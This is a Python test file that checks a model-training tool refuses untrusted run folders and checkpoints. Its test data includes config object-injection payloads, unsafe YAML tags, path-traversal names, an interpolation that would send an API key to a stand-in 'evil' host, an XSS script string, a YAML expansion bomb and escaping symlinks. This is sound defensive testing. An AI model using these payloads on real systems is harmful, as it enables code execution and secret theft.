"""A run folder from a stranger, and a checkpoint in it, run nothing."""

from __future__ import annotations

import json
import shutil

import pytest
import yaml
from omegaconf import OmegaConf

from tests.toys.commands import exit_code
from tests.toys.hostile import hostile_files
from trainer import evaluate, export, generate
from trainer.session import report_html
from trainer.storage import checkpoints
from trainer.storage.checkpoints import Checkpoint, CheckpointError
from trainer.storage.run_folder import FolderError, RunFolder

ONLY = "Only classes that conf/ names are instantiated"
THERE = "and only that is allowed"
NOWHERE = "no object may be created there"
RESOLVER = "uses the resolver"
VARIABLE = "reads the environment variable"


@pytest.fixture(scope="module")
def stored(tmp_path_factory):
    return tmp_path_factory.mktemp("kept") / "run"


@pytest.fixture
def folder(train, chats, stored, tmp_path):
    """Changes a run folder's run.yaml at the given places, and returns it."""
    if not stored.exists():
        shutil.copytree(
            train(f"task.path={chats}", "max_steps=1", "callbacks.evaluation=null"), stored
        )
    path = shutil.copytree(stored, tmp_path / "strange")

    def changed(**parts):
        content = yaml.safe_load((path / "run.yaml").read_text())
        for place, value in parts.items():
            OmegaConf.update(
                wrapped := OmegaConf.create(content),
                place.replace("__", "."),
                value,
                merge=False,
                force_add=True,
            )
            content = OmegaConf.to_container(wrapped)
        (path / "run.yaml").write_text(yaml.safe_dump(content))
        return path

    return changed


VERBS = {
    "generate": lambda place: exit_code(
        generate.main, [f"run={place}", "prompt=x", "max_new_tokens=1"]
    ),
    "evaluate": lambda place: exit_code(evaluate.main, [f"run={place}"]),
    "export": lambda place: exit_code(export.main, [f"run={place}", "to=merged"]),
}


MAKES = {"_target_": "os.makedirs", "name": "canary"}


FOLDERS = {
    "a target": ({"config__base": MAKES}, ONLY),
    "a target in a mapping": ({"config__task__columns": {"a": MAKES}}, ONLY),
    "a shipped target in a mapping": (
        {"config__task__columns": {"a": {"_target_": "trainer.models.tiny.tiny"}}},
        NOWHERE,
    ),
    "a target and its own schema": (
        {
            "config__base": MAKES,
            "identity__choices__base": "../../../../../../../../CANARY/../evil",
        },
        ONLY,
    ),
    "its own schema": (
        {"identity__choices__base": "../../../../../../../../CANARY/../evil"},
        "conf/base has hf,",
    ),
    "an unknown choice": ({"identity__choices__adapter": "evil"}, "conf/adapter has adalora,"),
    "choices of another kind": ({"identity__choices": "evil"}, "is not a run's record"),
    "no identity": ({"identity": None}, "is not a run's record"),
    "a config of another kind": ({"config": ["evil"]}, "is not a run's record"),
    "an interpolated secret": (
        {"config__task__path": "https://evil/${oc.env:WANDB_API_KEY}"},
        VARIABLE,
    ),
    "a call": ({"config__task__columns": {"a": "${oc.create:{_target_: os.makedirs}}"}}, RESOLVER),
    "a name that is a path": ({"config__name": "../../canary"}, "name is '../../canary'"),
    "partial": ({"config__adapter___partial_": True}, THERE),
    "a drafter": ({"config__drafter": MAKES}, ONLY),
    "a drafter's part": (
        {"config__drafter": {"loss": MAKES}, "identity__choices__drafter": "medusa"},
        ONLY,
    ),
    "a shipped target for a drafter": (
        {
            "config__drafter": {"_target_": "trainer.models.tiny.tiny"},
            "identity__choices__drafter": "medusa",
        },
        THERE,
    ),
    "another drafter's file": (
        {"identity__choices__drafter": "../../evil"},
        "dflash, dspark, eagle,",
    ),
    "a penalty": ({"config__penalty": MAKES}, ONLY),
    "a branch": ({"config__branch": MAKES, "identity__choices__branch": "cooldown"}, ONLY),
    "a branch's run": (
        {"config__branch": {"run": MAKES}, "identity__choices__branch": "cooldown"},
        ONLY,
    ),
    "another branch's file": (
        {"identity__choices__branch": "../../evil"},
        "conf/branch has cooldown,",
    ),
    "a target's run": ({"config__target__run": MAKES}, ONLY),
    "a shipped target for a target": (
        {"config__target__run": {"_target_": "trainer.models.tiny.tiny"}},
        NOWHERE,
    ),
    "a target's features": ({"config__target__features": "${oc.env:WANDB_API_KEY}"}, VARIABLE),
    "another target's file": ({"identity__choices__target": "../../evil"}, "conf/target has "),
    "a callback": ({"config__callbacks__own": MAKES}, ONLY),
    "a logger": ({"config__logger": {"own": MAKES}}, ONLY),
    "Lightning's plugin": ({"config__lightning__plugins": [MAKES]}, ONLY),
    "a model's own code": (
        {"config__base__trust_remote_code": True},
        "export GRAFT_TRUST_REMOTE_CODE=true",
    ),
    "a repository's attention": (
        {"config__base__attn_implementation": "evil/kernel"},
        "Attention is one of transformers' own",
    ),
}


@pytest.mark.parametrize("case", FOLDERS)
def test_a_strangers_run_folder_makes_nothing(folder, canary, capsys, case):
    parts, message = FOLDERS[case]
    place = folder(**json.loads(json.dumps(parts).replace("CANARY", str(canary.parent))))
    (canary.parent.parent / "evil.yaml").write_text(
        "_target_: os.makedirs\nname: canary  # str: canary\n"
    )
    for verb in VERBS.values():
        assert verb(place) == 2
        assert message in capsys.readouterr().err
    assert not (place / "merged").exists()


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("!!python/object/apply:os.makedirs [canary]\n", "could not determine a constructor"),
        ("a: !!python/name:os.makedirs ''\n", "could not determine a constructor"),
        ("- 1\n", "is not a run's record"),
        ("id: x\n", "is not a run's record"),
        ("a: [\n", "cannot be read"),
        ("a: &a [*a]\n", "contains itself"),
        ("- " * 5000 + "x", "nested more than 64 levels"),
        (
            "\n".join(
                ["- &a0 [x]", *(f"- &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 30))]
            ),
            "more than 400,000 values",
        ),
    ],
)
def test_a_run_yaml_that_is_none(canary, capsys, text, message):
    (canary.parent / "run.yaml").write_text(text)
    for verb in VERBS.values():
        assert verb(canary.parent) == 2
        assert message in capsys.readouterr().err


@pytest.mark.parametrize("layout", ["zip", "legacy", "bare", "nothing", "climbing"])
def test_a_checkpoint_with_code_is_refused(tmp_path, canary, layout):
    checkpoint = Checkpoint.at(tmp_path, 1)
    path = checkpoint.path
    path.write_bytes(dict(hostile_files(canary))[layout])
    manifest = {"step": 1, "bytes": path.stat().st_size, "sha256": checkpoints.sha256(path)}
    path.with_suffix(".json").write_text(json.dumps(manifest))
    assert checkpoints.newest(tmp_path) == checkpoint  # it is as it was written
    with pytest.raises(
        CheckpointError, match="cannot be used: it is no checkpoint of tensors and plain data"
    ):
        checkpoints.load(checkpoint)


def test_a_strangers_checkpoint_in_a_good_folder(folder, canary, capsys):
    place = folder()
    path = Checkpoint.at(place / "checkpoints", 1).path
    path.write_bytes(dict(hostile_files(canary))["zip"])
    manifest = {"step": 1, "bytes": path.stat().st_size, "sha256": checkpoints.sha256(path)}
    path.with_suffix(".json").write_text(json.dumps(manifest))
    for verb in VERBS.values():
        assert verb(place) == 2
        assert "it is no checkpoint" in capsys.readouterr().err


@pytest.mark.parametrize(
    "which", ["../../evil", "/evil", "1/../2", "-1", "1.0", "²", "best/../x", "0x1"]
)
def test_a_checkpoints_name_is_no_path(folder, canary, capsys, which):
    assert VERBS["generate"](f"{folder()}@{which}") == 2
    assert "no checkpoint" in capsys.readouterr().err


def test_a_page_from_a_strangers_folder_runs_no_script(folder, canary):
    script = "<script>alert(1)</script>"
    start = {
        "command": script,
        "time": script,
        "host": script,
        "git": script,
        "versions": {script: script},
    }
    place = folder(name=script, config__task__system=script, starts=[start])
    page = report_html.write(place).read_text()
    assert "<script" not in page
    assert page.count("&lt;script&gt;") >= 5


def test_a_run_folder_whose_links_lead_out_is_refused(folder, canary, capsys):
    place = folder()
    (canary.parent / "other").mkdir()
    for name in ("metrics.csv", "adapter", "checkpoints/step-00000002.ckpt.tmp"):
        (shutil.rmtree if (place / name).is_dir() else lambda path: path.unlink(missing_ok=True))(
            place / name
        )
        (place / name).symlink_to(canary if "." in name else canary.parent / "other")
        for verb in VERBS.values():
            assert verb(place) == 2
            assert (
                f"{place / name} is a link that leads out of the run folder"
                in capsys.readouterr().err
            )
        with pytest.raises(FolderError, match="leads out of the run folder"):
            RunFolder.create(place)
        (place / name).unlink()
